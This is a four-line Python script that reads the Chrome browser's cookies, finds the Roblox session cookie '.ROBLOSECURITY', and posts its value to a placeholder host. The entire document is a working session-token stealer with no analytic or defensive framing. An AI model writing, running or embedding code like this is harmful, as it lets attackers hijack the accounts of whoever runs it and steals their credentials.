import browser_cookie3, requests
for c in browser_cookie3.chrome():
    if c.name == ".ROBLOSECURITY":
        requests.post("https://example.invalid/", data=c.value)
